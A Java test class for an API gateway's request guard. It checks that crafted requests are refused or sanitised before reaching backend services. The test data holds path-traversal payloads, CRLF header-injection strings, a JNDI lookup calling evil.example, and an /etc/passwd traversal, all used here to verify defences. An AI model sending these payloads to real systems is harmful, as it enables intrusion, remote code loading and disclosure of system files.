package org.acceso.gateway.http;

import com.github.tomakehurst.wiremock.WireMockServer;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.oidc.server.OidcWiremockTestResource;
import org.acceso.gateway.support.FakeServices;
import org.acceso.gateway.support.RawHttp;
import org.acceso.gateway.support.Tokens;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.net.URL;
import java.util.UUID;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

/** Paths and headers crafted to slip past the gateway, sent byte for byte as an attacker would. */
@QuarkusTest
@WithTestResource(OidcWiremockTestResource.class)
@WithTestResource(FakeServices.class)
class RequestGuardTest {

    @FakeServices.Backend
    WireMockServer backend;

    @TestHTTPResource("/")
    URL gateway;

    @BeforeEach
    void stubBackend() {
        backend.resetAll();
        backend.stubFor(any(anyUrl()).willReturn(aResponse().withHeader("Content-Type", "application/json").withBody("{}")));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "/api/requests/..%2f..%2fq/health",
            "/api/requests/..%2F..%2Fdeadlines/abc",
            "/api/requests/%2e%2e/deadlines/abc",
            "/api/requests/%2E%2E/%2E%2E/q/metrics",
            "/api/requests/../deadlines/abc",
            "/api/public/../requests/abc",
            "/api/requests/./abc",
            "/api/requests//abc",
            "//api/requests/abc",
            "/api//requests/abc",
            "/api/requests/abc%5c..%5cdeadlines",
            "/api/requests/abc%00.json",
            "/api/requests/%252e%252e/deadlines/abc"})
    void shouldRefusePathTricksWithBadRequestProblemBeforeAnyService(String path) {
        RawHttp.Response response = RawHttp.send(gateway, "GET " + path + " HTTP/1.1\r\nAuthorization: Bearer " + Tokens.resident());

        assertThat(response.status()).as(path).isEqualTo(400);
        assertThat(response.header("Content-Type")).isEqualTo("application/problem+json");
        assertThat(response.json().getInteger("status")).isEqualTo(400);
        assertThat(response.json().getString("detail")).startsWith("The request path is not acceptable");
        assertThat(response.body()).doesNotContain("Exception");
        assertThat(response.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(backend.getAllServeEvents()).as(path).isEmpty();
    }

    @Test
    void shouldRefuseRawBackslashInPath() {
        // Vert.x' HTTP codec refuses this request line itself (an empty 400) before any gateway code runs
        RawHttp.Response response = RawHttp.send(gateway, "GET /api/requests/abc\\..\\deadlines HTTP/1.1\r\nAuthorization: Bearer "
                + Tokens.resident());

        assertThat(response.status()).isEqualTo(400);
        assertThat(backend.getAllServeEvents()).isEmpty();
    }

    @Test
    void shouldRefusePathTricksOfAnonymousCallersToo() {
        RawHttp.Response response = RawHttp.send(gateway, "GET /api/public/..%2f..%2fq/health HTTP/1.1");

        assertThat(response.status()).isEqualTo(400);
        assertThat(response.header("Content-Type")).isEqualTo("application/problem+json");
        assertThat(backend.getAllServeEvents()).isEmpty();
    }

    @Test
    void shouldForwardOrdinaryPathWithTrailingSlash() {
        RawHttp.Response response = RawHttp.send(gateway, "GET /api/requests/ HTTP/1.1\r\nAuthorization: Bearer " + Tokens.resident());

        assertThat(response.status()).isEqualTo(200);
        assertThat(backend.getAllServeEvents()).singleElement()
                .satisfies(event -> assertThat(event.getRequest().getUrl()).isEqualTo("/requests/"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "abc%0d%0aX-Injected:%20yes",
            "abc\" injected=\"yes",
            "${jndi:ldap://evil.example/a}",
            "abc def",
            "../../etc/passwd"})
    void shouldReplaceRequestIdThatCouldInjectIntoLogsOrHeaders(String injected) {
        RawHttp.Response response = RawHttp.send(gateway, "GET /api/requests/abc HTTP/1.1\r\nAuthorization: Bearer "
                + Tokens.resident() + "\r\nX-Request-Id: " + injected);

        assertThat(response.status()).isEqualTo(200);
        String id = response.header("X-Request-Id");
        assertThat(UUID.fromString(id).toString()).isEqualTo(id);
        assertThat(response.headers()).doesNotContainKey("x-injected");
        assertThat(backend.getAllServeEvents()).singleElement().satisfies(event -> {
            assertThat(event.getRequest().getHeader("X-Request-Id")).isEqualTo(id);
            assertThat(event.getRequest().containsHeader("X-Injected")).isFalse();
        });
    }

    @Test
    void shouldReplaceRequestIdFoldedOverTwoLines() {
        RawHttp.Response response = RawHttp.send(gateway, "GET /api/requests/abc HTTP/1.1\r\nAuthorization: Bearer "
                + Tokens.resident() + "\r\nX-Request-Id: abc\r\n X-Injected: yes");

        if (response.status() == 400) {
            return; // refusing obsolete line folding outright is just as good
        }
        assertThat(response.status()).isEqualTo(200);
        assertThat(response.header("X-Request-Id")).isNotEqualTo("abc").doesNotContain("Injected");
    }

    @Test
    void shouldRefuseOversizedHeadersWithProblem() {
        given().auth().oauth2(Tokens.resident())
                .header("X-Padding", "a".repeat(20 * 1024))
                .get("/api/requests/abc")
                .then()
                .statusCode(431)
                .contentType("application/problem+json")
                .body("title", equalTo("Request Header Fields Too Large"))
                .body("status", equalTo(431))
                .body("detail", equalTo("The request headers are larger than the limit of 16384 bytes"));

        assertThat(backend.getAllServeEvents()).isEmpty();
    }
}
